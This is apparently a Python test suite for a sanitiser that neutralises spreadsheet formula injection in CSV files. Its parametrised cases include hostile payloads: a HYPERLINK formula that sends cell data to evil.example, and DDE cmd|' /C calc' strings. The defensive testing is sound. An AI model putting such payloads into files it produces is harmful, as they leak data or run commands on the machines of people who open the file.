"""No cell of a file that we hand out begins as a formula, and nothing else of it changes."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_core.files.formulas import harmless, harmless_csv

LIVE = ("=", "+", "-", "@")


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        " =1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_a_formula_is_marked_as_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Oslo", "-5", "+7.25", "-1.5e-7", "-12%", "2026-01-01", "a=b", "'=1", "-inf"])
def test_a_number_and_a_plain_text_stay(cell: str) -> None:
    assert harmless(cell) == cell


def test_a_file_without_formulas_is_not_touched() -> None:
    data = 'town,note\r\nÅlesund,"a, ""quoted"" one"\r\nOslo,-5\r\n'.encode()
    assert harmless_csv(data) is data


def test_headers_are_cells_too() -> None:
    assert harmless_csv(b"=1+1,b\n1,2\n") == b"'=1+1,b\r\n1,2\r\n"


@given(
    st.lists(st.lists(st.text(alphabet="=+-@'\" ,\n\rab1", min_size=1, max_size=6), min_size=2, max_size=3), max_size=4)
)
def test_whatever_the_cells_are_none_is_live_and_each_is_read_back(rows: list[list[str]]) -> None:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    found = list(csv.reader(io.StringIO(harmless_csv(out.getvalue().encode()).decode(), newline="")))
    assert found == [[harmless(cell) for cell in row] for row in rows]
    assert all(cell == harmless(cell) for row in found for cell in row)


@given(st.binary(max_size=60))
def test_any_bytes_come_through(data: bytes) -> None:
    assert isinstance(harmless_csv(data), bytes)
